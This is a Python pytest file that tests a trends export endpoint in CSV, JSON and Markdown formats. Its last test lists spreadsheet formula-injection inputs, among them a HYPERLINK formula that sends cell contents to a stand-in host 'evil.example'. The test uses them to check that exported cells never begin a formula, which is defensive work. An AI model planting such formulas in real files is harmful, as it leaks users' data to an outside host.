"""/trends/export: the trends as a file, in three formats."""

import csv
import io
import json
from datetime import timedelta

import asyncpg
import pytest

from tests import oracle
from tests.support.api import PREFIX
from tests.support.builders import Database, incident, insert, job, run, template
from tests.support.clock import NOW
from tests.support.fixtures import Ask, Serve

DAY = timedelta(days=1)


def course() -> Database:
    """Rows in the newest and the oldest of three buckets of a window of 30 days, none in between."""
    times = (NOW, NOW - DAY, NOW - 29 * DAY)
    return Database(
        jobs=[job(created_at=at, status=status) for at in times for status in ("failed", "completed", "x")],
        runs=[run(created_at=at) for at in times],
        incidents=[incident(created_at=NOW, status="open")],
    )


async def test_csv_has_a_row_for_each_point(database: asyncpg.Connection, serve: Serve) -> None:
    await insert(database, course())
    asked = {"window_days": "30", "bucket_days": "14", "site_id": "S1"}
    async with serve(NOW) as client:
        trends = (await client.get(f"{PREFIX}/trends", params=asked)).json()
        file = await client.get(f"{PREFIX}/trends/export", params={**asked, "export_format": "csv"})
    assert file.headers["content-type"] == "text/csv; charset=utf-8"
    assert file.text.count("\n") == file.text.count("\r\n") == 1 + 3
    assert list(csv.reader(io.StringIO(file.text, newline=""))) == oracle.trends_csv(trends)
    _, empty, newest = csv.DictReader(io.StringIO(file.text, newline=""))
    assert (empty["doc_sync_total"], empty["doc_sync_success_rate"], empty["partial"]) == ("0", "", "false")
    assert (
        newest.items()
        >= {
            "bucket_start": "2026-03-08T09:30:00Z",
            "bucket_end": "2026-03-10T09:30:00Z",
            "partial": "true",
            "doc_sync_total": "6",
            "doc_sync_success_rate": str(1 / 3),
            "breakages_open_rate": "1.0",
        }.items()
    )


async def test_json_is_the_trends_without_operator_indented_by_two(
    database: asyncpg.Connection, serve: Serve
) -> None:
    await insert(database, course())
    async with serve(NOW) as client:
        trends = (await client.get(f"{PREFIX}/trends")).json()
        file = await client.get(f"{PREFIX}/trends/export")
    assert file.headers["content-type"] == "application/json"
    del trends["operator_id"]
    assert file.text == json.dumps(trends, indent=2, ensure_ascii=False)


async def test_markdown_has_the_same_table(ask: Ask) -> None:
    file = await ask("/trends/export", course(), export_format="MD", window_days=7, bucket_days=7)
    assert file.headers["content-type"] == "text/markdown; charset=utf-8"
    lines = file.text.splitlines()
    assert lines[:7] == [
        "# Parallel Ops Trends",
        "",
        "- generated_at: 2026-03-10T09:30:00Z",
        "- window_days: 7",
        "- window_since: 2026-03-03T09:30:00Z",
        "- bucket_days: 7",
        "- time_zone: UTC",
    ]
    head, rule, row = (line.strip("| ").split(" | ") for line in lines[8:])
    assert rule == ["---"] * len(head)
    assert (
        dict(zip(head, row, strict=True)).items()
        >= {
            "Bucket start": "2026-03-03T09:30:00Z",
            "Bucket end": "2026-03-10T09:30:00Z",
            "Partial": "false",
            "Doc sync success rate": str(1 / 3),
            "Breakages open rate": "1.0",
        }.items()
    )


@pytest.mark.parametrize(
    ("given", "extension"), [(None, "json"), (" ", "json"), (" Csv\t", "csv"), ("md", "md")]
)
async def test_the_format_names_the_file(ask: Ask, given: str | None, extension: str) -> None:
    asked = {} if given is None else {"export_format": given}
    response = await ask("/trends/export", **asked)
    name = f'attachment; filename="parallel-ops-trends.{extension}"'
    assert response.headers["content-disposition"] == name


# What a spreadsheet would run, follow or send off.
HOSTILE = ("=1+1", '=HYPERLINK("http://evil.example?"&A1,"x")', "@SUM(A1)", "+1", "-1", " =1", "\t=1", "\nx")


@pytest.mark.parametrize("path", ["/summary/export", "/trends/export"])
async def test_no_name_in_the_data_or_in_a_filter_begins_a_formula(
    database: asyncpg.Connection, serve: Serve, path: str
) -> None:
    rows = Database(
        jobs=[job(status=text[:20], payload={"site_id": text}, created_at=NOW) for text in HOSTILE],
        runs=[run(result={"result_code": text}, target_object=text, created_at=NOW) for text in HOSTILE],
        incidents=[incident(status=text[:30], created_at=NOW) for text in HOSTILE],
        plans=[template(text) for text in HOSTILE],
    )
    await insert(database, rows)
    async with serve(NOW) as client:
        for text in (None, *HOSTILE):
            filters = dict.fromkeys(("site_id", "target_object", "template_key"), text) if text else {}
            file = await client.get(PREFIX + path, params={"export_format": "csv", **filters})
            cells = [cell for row in csv.reader(io.StringIO(file.text, newline="")) for cell in row]
            assert len(cells) > 20
            assert not [
                cell for cell in cells if cell.strip()[:1] in set("=+-@") or cell[:1] in set("\t\r\n")
            ]
